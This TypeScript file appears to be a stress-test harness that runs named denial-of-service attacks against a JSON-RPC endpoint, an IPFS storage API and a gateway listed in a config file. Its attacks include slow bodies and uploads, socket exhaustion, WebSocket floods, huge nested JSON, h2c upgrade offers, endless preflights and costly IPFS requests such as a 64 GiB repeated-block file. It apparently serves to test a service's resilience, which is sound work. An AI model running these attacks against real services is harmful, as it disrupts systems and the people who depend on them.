import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

import { encode, type PBLink, type PBNode, prepare } from '@ipld/dag-pb';
import { UnixFS } from 'ipfs-unixfs';
import { CID } from 'multiformats/cid';
import { WebSocket } from 'ws';

/*
 * Clients that attack the service, run as a separate process until it is killed: `<attack> <file>`. The file is JSON:
 * the addresses of the listeners, and keys with their secrets. Each key is one client, unless the attack is one of a
 * single key, or of nobody. A client whose connection is closed opens another. It prints a line once the attack has its
 * full strength: on a busy machine that takes its time.
 */

type Targets = {
  readonly rpc: string;
  readonly storage: string;
  readonly gateway: string;
  readonly keys: readonly { readonly key: string; readonly secret: string }[];
};

type Owner = Targets['keys'][number];

const [attack, file] = process.argv.slice(2) as [string, string];
const targets = JSON.parse(readFileSync(file, 'utf8')) as Targets;
const url = new URL(targets.rpc);
const keys = targets.keys.map(({ key }) => key);

let isSaid = false;

function isReady(): void {
  if (!isSaid) console.log('ready');
  isSaid = true;
}

const LARGE = 5 * 1024 * 1024 - 1024;
const request = (method: string, params: string) => `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
const LOOK_UP = request('eth_getUncleByBlockNumberAndIndex', '["0x29c","0x0"]');

const headOf = (key: string, length: number) =>
  `POST /v3/${key} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

/** Opens a connection, and another one a little after it is closed. */
function keepOpen(start: (socket: Socket) => void, { port, hostname }: Pick<URL, 'port' | 'hostname'> = url): void {
  const socket = connect(Number(port), hostname, () => {
    start(socket);
  });
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      keepOpen(start, { port, hostname });
    }, 10),
  );
}

/** Sends the same request again as soon as it is answered. */
function repeat(body: string): (key: string) => void {
  return (key) => {
    const whole = Buffer.from(headOf(key, body.length) + body);
    keepOpen((socket) => {
      socket.on('data', () => socket.write(whole));
      socket.write(whole);
    });
  };
}

/** Announces a body and sends a byte of it from time to time, on several connections. */
function slowBodies(key: string): void {
  for (let count = 0; count < 20; count++)
    keepOpen((socket) => {
      socket.write(headOf(key, 100_000));
      const timer = setInterval(() => socket.write(' '), 50);
      socket.on('close', () => {
        clearInterval(timer);
      });
    });
}

/** Opens connections without end and sends nothing. */
function openSockets(): void {
  setInterval(() => {
    const socket = connect(Number(url.port), url.hostname);
    socket.on('error', () => undefined);
  }, 10);
}

/** Sends frames as fast as the connection takes them. */
function floodFrames(key: string): void {
  const socket = new WebSocket(`ws://${url.host}/ws/v3/${key}`, { perMessageDeflate: false });
  const pump = () => {
    if (socket.readyState !== WebSocket.OPEN) return;
    for (let count = 0; count < 100 && socket.bufferedAmount < 1 << 20; count++) socket.send(LOOK_UP);
    setTimeout(pump, 1);
  };
  socket.on('open', pump);
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      floodFrames(key);
    }, 10),
  );
}

/** How many connections an attack without a key opens. */
const CONNECTIONS = 10_000;

const plainGet = (path: string) => `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`;
const offer = (path: string) =>
  `GET ${path} HTTP/1.1\r\nhost: x\r\nconnection: Upgrade, HTTP2-Settings\r\nupgrade: h2c\r\nhttp2-settings: AAMA\r\n\r\n`;
const listeners = [targets.rpc, targets.storage, targets.gateway].map((each) => new URL(each));

/** Opens connections to every listener, as many as there may be, and sends the same on each. */
function fromNobody(bytes: string, closes: boolean): void {
  let opened = 0;
  for (let count = 0; count < CONNECTIONS; count++)
    setTimeout(() => {
      keepOpen(
        (socket) => {
          if (++opened === CONNECTIONS) isReady();
          socket.resume();
          if (closes) socket.end(bytes);
          else socket.write(bytes);
        },
        listeners[count % listeners.length],
      );
    }, count / 2);
}

const basic = ({ key, secret }: Owner) => `authorization: Basic ${Buffer.from(`${key}:${secret}`).toString('base64')}`;

const GET_LOGS = request('eth_getLogs', '[]');

/** Asks for long answers with one key, and reads none of them. */
function unreadAnswers(key: string): void {
  for (let count = 0; count < 60; count++)
    keepOpen((socket) => {
      socket.write(headOf(key, GET_LOGS.length) + GET_LOGS);
    });
}

/** Asks for long answers with one key, reads each, and asks for the next one. */
function longAnswers(key: string): void {
  const whole = headOf(key, GET_LOGS.length) + GET_LOGS;
  for (let count = 0; count < 60; count++)
    keepOpen((socket) => {
      socket.on('data', (piece) => {
        if (piece.at(-1) === '}'.charCodeAt(0)) socket.write(whole);
      });
      socket.write(whole);
    });
}

/** Puts a DAG of many blocks, and returns its root. */
async function putDag(owner: Owner): Promise<string> {
  let root = '';
  for (let depth = 0; depth < 200; depth++) {
    const form = new FormData();
    form.append('data', new Blob([JSON.stringify(root === '' ? depth : [depth, { '/': root }])]));
    const authorization = basic(owner).replace('authorization: ', '');
    const response = await fetch(`${targets.storage}/api/v0/dag/put`, {
      method: 'POST',
      body: form,
      headers: { authorization },
    });
    ({
      Cid: { '/': root },
    } = (await response.json()) as { Cid: { '/': string } });
  }
  return root;
}

/** Stores a node of a file or directory, and returns its CID. */
async function putNode(owner: Owner, node: PBNode): Promise<CID> {
  const form = new FormData();
  form.append('data', new Blob([encode(prepare(node)) as Uint8Array<ArrayBuffer>]));
  const authorization = basic(owner).replace('authorization: ', '');
  const url = `${targets.storage}/api/v0/block/put?cid-codec=dag-pb`;
  const response = await fetch(url, { method: 'POST', body: form, headers: { authorization } });
  return CID.parse(((await response.json()) as { Key: string }).Key);
}

/** A file of the same block of 256 KiB over and over: 64 GiB. */
async function putLargeFile(owner: Owner): Promise<CID> {
  let size = 256 << 10;
  const leaf = new UnixFS({ type: 'file', data: new Uint8Array(size) });
  let cid = await putNode(owner, { Data: leaf.marshal(), Links: [] });
  for (let level = 0; level < 6; level++) {
    const sizes = Array.from({ length: 8 }, () => BigInt(size));
    const Data = new UnixFS({ type: 'file', blockSizes: sizes }).marshal();
    const Links = sizes.map(() => ({ Hash: cid, Name: '', Tsize: size }));
    size *= 8;
    cid = await putNode(owner, { Data, Links });
  }
  return cid;
}

/** A directory of 256 shards with 256 entries each. */
async function putShards(owner: Owner): Promise<CID> {
  const Data = new UnixFS({ type: 'hamt-sharded-directory', fanout: 256n, hashType: 0x22n }).marshal();
  const label = (index: number) => index.toString(16).toUpperCase().padStart(2, '0');
  const all = Array.from({ length: 256 }, (_, index) => label(index));
  const file = await putNode(owner, { Data: new UnixFS({ type: 'file' }).marshal(), Links: [] });
  const Links: PBLink[] = [];
  for (const Name of all) {
    const below = all.map((each) => ({ Name: `${each}${Name}${each}`, Hash: file, Tsize: 1 }));
    Links.push({ Name, Hash: await putNode(owner, { Data, Links: below }), Tsize: 1 });
  }
  return putNode(owner, { Data, Links });
}

/** Sends the same to a listener on so many connections at once, and reads what comes. */
function onConnections(count: number, url: string, bytes: string): void {
  for (let opened = 0; opened < count; opened++)
    keepOpen((socket) => {
      socket.resume().write(bytes);
    }, new URL(url));
}

const command = (owner: Owner, path: string) =>
  `POST /api/v0/${path} HTTP/1.1\r\nhost: x\r\n${basic(owner)}\r\ncontent-length: 0\r\n\r\n`;

/** As many requests as one key may make at once. */
const KEY_REQUESTS = 32;
/** As many as one address may make at the gateway. */
const ADDRESS_REQUESTS = 16;

/** Walks a DAG again and again with one key; each request visits 50,000 blocks. */
async function storageWalks(owner: Owner): Promise<void> {
  const root = await putDag(owner);
  const walk = command(owner, `pin/add?progress=true${`&arg=${root}`.repeat(200)}`);
  onConnections(KEY_REQUESTS, targets.storage, walk.repeat(10));
}

/** Asks the gateway for CAR files from one address. */
async function gatewayFiles(owner: Owner): Promise<void> {
  const ask = plainGet(`/ipfs/${await putDag(owner)}?format=car&car-dups=y`);
  onConnections(ADDRESS_REQUESTS, targets.gateway, ask.repeat(100));
}

/** Of which most wait for a place. */
const QUEUED_UPLOADS = 500;

/** Sends multipart bodies of one key byte by byte. */
const slowUploads = (uploads: number) => (owner: Owner) => {
  const head = command(owner, 'add').replace(
    'content-length: 0',
    'content-type: multipart/form-data; boundary=x\r\ntransfer-encoding: chunked',
  );
  const part = '--x\r\ncontent-disposition: form-data; name="f"; filename="f"\r\n\r\n\r\n';
  for (let count = 0; count < uploads; count++)
    keepOpen((socket) => {
      socket.resume().write(head);
      let at = 0;
      const timer = setInterval(() => {
        // A hundred chunks of one byte in each packet.
        const bytes = Array.from({ length: 100 }, () => `1\r\n${part.charAt(at++ % part.length)}\r\n`);
        socket.write(bytes.join(''));
      }, 10);
      socket.on('close', () => {
        clearInterval(timer);
      });
    }, new URL(targets.storage));
};

/** Has files without an end compressed for one key. */
async function compressedFiles(owner: Owner): Promise<void> {
  const cid = (await putLargeFile(owner)).toString();
  onConnections(
    KEY_REQUESTS,
    targets.storage,
    command(owner, `get?compress=true&compression-level=9&arg=${cid}`).repeat(10),
  );
}

/** Has one key list a sharded directory. */
async function shardedDirectories(owner: Owner): Promise<void> {
  const cid = (await putShards(owner)).toString();
  onConnections(KEY_REQUESTS, targets.storage, command(owner, `ls?arg=${cid}`).repeat(100));
}

/** Asks the gateway for ranges of a large file from one address. */
async function byteRanges(owner: Owner): Promise<void> {
  const cid = (await putLargeFile(owner)).toString();
  const ask = plainGet(`/ipfs/${cid}?format=car&car-dups=y&entity-bytes=1000000000:1100000000`);
  onConnections(ADDRESS_REQUESTS, targets.gateway, ask.repeat(10));
}

/** Sends a preflight with a body without an end, as fast as it is read. */
function endlessPreflights(): void {
  const piece = Buffer.alloc(1 << 16);
  keepOpen((socket) => {
    const pump = () => {
      while (socket.writable && socket.write(piece));
    };
    socket.resume().on('drain', pump);
    socket.write(`OPTIONS / HTTP/1.1\r\nhost: ${url.host}\r\ncontent-length: ${10 ** 15}\r\n\r\n`);
    pump();
  });
}

const once = (start: () => void) => (key: string) => {
  if (key === keys[0]) start();
};

/** An attack of one key, or of its address. */
const alone = (start: (owner: Owner) => void | Promise<void>) => async (key: string) => {
  const [owner] = targets.keys;
  if (owner !== undefined && key === owner.key) await start(owner);
};

const ATTACKS: Readonly<Record<string, (key: string) => void | Promise<void>>> = {
  'nested JSON': repeat(request('eth_call', '['.repeat(LARGE / 2) + ']'.repeat(LARGE / 2))),
  'flat array': repeat(`[${'0,'.repeat(LARGE / 2)}0]`),
  'huge batches': repeat(`[${Array.from({ length: 100 }, () => LOOK_UP).join(',')}]`),
  'look-ups': repeat(LOOK_UP),
  'slow bodies': slowBodies,
  'endless sockets': openSockets,
  'WebSocket frames': floodFrames,
  'endless preflights': endlessPreflights,
  'upgrade offers': once(() => {
    fromNobody(offer('/livez'), false);
  }),
  'pipelined offers': once(() => {
    fromNobody(offer('/livez').repeat(2), true);
  }),
  'unread answers': alone(({ key }) => {
    unreadAnswers(key);
  }),
  'long answers': alone(({ key }) => {
    longAnswers(key);
  }),
  'storage walks': alone(storageWalks),
  'gateway files': alone(gatewayFiles),
  'slow uploads': alone(slowUploads(KEY_REQUESTS)),
  'queued uploads': alone(slowUploads(QUEUED_UPLOADS)),
  'compressed files': alone(compressedFiles),
  'sharded directories': alone(shardedDirectories),
  'byte ranges': alone(byteRanges),
};

const start = ATTACKS[attack];
if (!start) throw new Error(`unknown attack: ${attack}`);
await Promise.all(keys.map((key) => start(key)));
if (!attack.endsWith('offers')) isReady();
